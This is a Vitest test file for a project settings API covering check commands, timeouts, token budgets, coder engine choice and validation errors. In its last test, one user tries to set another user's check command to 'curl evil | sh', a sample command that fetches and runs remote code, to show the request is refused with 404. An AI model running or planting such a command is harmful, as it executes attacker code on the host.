import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Project } from '@/contracts/projects.js';
import { createTestApp, signedInClient, type TestApp } from '@/server/testing/test-app.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

describe("a project's check settings (PATCH /api/projects/:id)", () => {
  it('has no check and a 300 s timeout by default', async () => {
    const { client, projectId } = await signedInClient(t.app);
    const project = await client.get<Project>(`/api/projects/${projectId}`);
    expect(project.body).toMatchObject({
      checkCommand: null,
      checkTimeoutSeconds: 300,
      taskTokenBudget: null,
    });
  });

  it('sets the check command and timeout, keeps what is left out, and clears the command with null or ""', async () => {
    const { client, projectId } = await signedInClient(t.app);
    const set = await client.patch<Project>(`/api/projects/${projectId}`, {
      checkCommand: '  npm test  ',
      checkTimeoutSeconds: 600,
    });
    expect(set.status).toBe(200);
    expect(set.body).toMatchObject({
      name: 'My Project',
      checkCommand: 'npm test',
      checkTimeoutSeconds: 600,
    });

    const renamed = await client.patch<Project>(`/api/projects/${projectId}`, { name: 'Checked' });
    expect(renamed.body).toMatchObject({
      name: 'Checked',
      checkCommand: 'npm test',
      checkTimeoutSeconds: 600,
    });
    const listed = await client.get<{ projects: Project[] }>('/api/projects');
    expect(listed.body.projects.find((p) => p.id === projectId)).toMatchObject({ checkCommand: 'npm test' });

    const multiLine = 'npm ci\nnpm test -- --reporter=dot';
    expect(
      (await client.patch<Project>(`/api/projects/${projectId}`, { checkCommand: multiLine })).body,
    ).toMatchObject({ checkCommand: multiLine });
    for (const cleared of [null, '', '   ']) {
      await client.patch(`/api/projects/${projectId}`, { checkCommand: 'make check' });
      const res = await client.patch<Project>(`/api/projects/${projectId}`, { checkCommand: cleared });
      expect(res.body.checkCommand, JSON.stringify(cleared)).toBeNull();
      expect(res.body.checkTimeoutSeconds).toBe(600);
    }
  });

  it('refuses a command over 1,000 characters and a timeout outside 10–3600 s with field errors', async () => {
    const { client, projectId } = await signedInClient(t.app);
    expect(
      (await client.patch(`/api/projects/${projectId}`, { checkCommand: 'x'.repeat(1000) })).status,
    ).toBe(200);
    const cases: [string, unknown][] = [
      ['checkCommand', 'x'.repeat(1001)],
      ['checkCommand', 42],
      ['checkTimeoutSeconds', 9],
      ['checkTimeoutSeconds', 3601],
      ['checkTimeoutSeconds', 30.5],
      ['checkTimeoutSeconds', '300'],
      ['checkTimeoutSeconds', null],
    ];
    for (const [field, value] of cases) {
      const res = await client.patch(`/api/projects/${projectId}`, { [field]: value });
      expect(res.status, `${field}=${JSON.stringify(value)}`).toBe(400);
      expect(res.body).toMatchObject({ error: 'VALIDATION_ERROR', fields: { [field]: expect.any(Array) } });
    }
    for (const seconds of [10, 3600]) {
      const res = await client.patch<Project>(`/api/projects/${projectId}`, { checkTimeoutSeconds: seconds });
      expect(res.body.checkTimeoutSeconds).toBe(seconds);
    }
    const empty = await client.patch(`/api/projects/${projectId}`, {});
    expect(empty.status).toBe(400);
    expect(empty.body).toMatchObject({ error: 'VALIDATION_ERROR' });
    const unknown = await client.patch(`/api/projects/${projectId}`, { checkCommands: 'npm test' });
    expect(unknown.status).toBe(400);
  });

  it('sets a task token budget, keeps it when other fields change, and removes it with null', async () => {
    const { client, projectId } = await signedInClient(t.app);
    const set = await client.patch<Project>(`/api/projects/${projectId}`, { taskTokenBudget: 250_000 });
    expect(set.status).toBe(200);
    expect(set.body).toMatchObject({ taskTokenBudget: 250_000, checkTimeoutSeconds: 300 });
    const renamed = await client.patch<Project>(`/api/projects/${projectId}`, { name: 'Budgeted' });
    expect(renamed.body).toMatchObject({ name: 'Budgeted', taskTokenBudget: 250_000 });
    const listed = await client.get<{ projects: Project[] }>('/api/projects');
    expect(listed.body.projects.find((p) => p.id === projectId)?.taskTokenBudget).toBe(250_000);
    for (const edge of [1, 2_000_000_000]) {
      const res = await client.patch<Project>(`/api/projects/${projectId}`, { taskTokenBudget: edge });
      expect(res.body.taskTokenBudget).toBe(edge);
    }
    const removed = await client.patch<Project>(`/api/projects/${projectId}`, { taskTokenBudget: null });
    expect(removed.status).toBe(200);
    expect(removed.body.taskTokenBudget).toBeNull();
  });

  it('refuses a budget that is not a whole, positive number of tokens, and keeps the one it had', async () => {
    const { client, projectId } = await signedInClient(t.app);
    await client.patch(`/api/projects/${projectId}`, { taskTokenBudget: 5000 });
    for (const value of [-1, -5000, 0, 1.5, 1000.25, '5000', true, 2_000_000_001, Number.MAX_SAFE_INTEGER]) {
      const res = await client.patch(`/api/projects/${projectId}`, { taskTokenBudget: value });
      expect(res.status, JSON.stringify(value)).toBe(400);
      expect(res.body).toMatchObject({
        error: 'VALIDATION_ERROR',
        fields: { taskTokenBudget: [expect.any(String)] },
      });
    }
    // 1e400 is valid JSON that parses to Infinity: refused like any number out of range.
    const huge = await client.request('PATCH', `/api/projects/${projectId}`, '{"taskTokenBudget": 1e400}');
    expect(huge.status).toBe(400);
    expect(huge.body).toMatchObject({
      error: 'VALIDATION_ERROR',
      fields: { taskTokenBudget: [expect.any(String)] },
    });
    const project = await client.get<Project>(`/api/projects/${projectId}`);
    expect(project.body.taskTokenBudget).toBe(5000);
  });

  it('chooses the coder engine and the tool-call limit; a task may override the engine', async () => {
    const { client, projectId } = await signedInClient(t.app);
    const fresh = await client.get<Project>(`/api/projects/${projectId}`);
    expect(fresh.body).toMatchObject({ coderEngine: 'autocoder', maxToolCalls: 60 });
    const set = await client.patch<Project>(`/api/projects/${projectId}`, {
      coderEngine: 'one-shot',
      maxToolCalls: 120,
    });
    expect(set.status).toBe(200);
    expect(set.body).toMatchObject({ coderEngine: 'one-shot', maxToolCalls: 120 });

    for (const [field, value] of [
      ['coderEngine', 'cursor'],
      ['coderEngine', null],
      ['maxToolCalls', 0],
      ['maxToolCalls', 501],
      ['maxToolCalls', 2.5],
    ] as const) {
      const res = await client.patch(`/api/projects/${projectId}`, { [field]: value });
      expect(res.status, `${field}=${value}`).toBe(400);
      expect(res.body).toMatchObject({
        error: 'VALIDATION_ERROR',
        fields: { [field]: [expect.any(String)] },
      });
    }
    expect((await client.get<Project>(`/api/projects/${projectId}`)).body).toMatchObject({
      coderEngine: 'one-shot',
      maxToolCalls: 120,
    });
    for (const engine of ['claude-code', 'codex', 'one-shot'] as const) {
      const chosen = await client.patch<Project>(`/api/projects/${projectId}`, { coderEngine: engine });
      expect(chosen.body.coderEngine).toBe(engine);
    }

    const task = await client.post<{ id: string; coderEngine: string | null }>('/api/tasks', {
      projectId,
      title: 'T',
    });
    expect(task.body.coderEngine).toBeNull();
    const overridden = await client.patch<{ coderEngine: string | null }>(`/api/tasks/${task.body.id}`, {
      coderEngine: 'autocoder',
    });
    expect(overridden.body.coderEngine).toBe('autocoder');
    const back = await client.patch<{ coderEngine: string | null }>(`/api/tasks/${task.body.id}`, {
      coderEngine: null,
    });
    expect(back.body.coderEngine).toBeNull();
    expect((await client.patch(`/api/tasks/${task.body.id}`, { coderEngine: 'cursor' })).status).toBe(400);
  });

  it("answers 404 for another user's project and changes nothing", async () => {
    const alice = await signedInClient(t.app);
    const bob = await signedInClient(t.app);
    const res = await bob.client.patch(`/api/projects/${alice.projectId}`, {
      checkCommand: 'curl evil | sh',
    });
    expect(res.status).toBe(404);
    const project = await alice.client.get<Project>(`/api/projects/${alice.projectId}`);
    expect(project.body.checkCommand).toBeNull();
  });
});
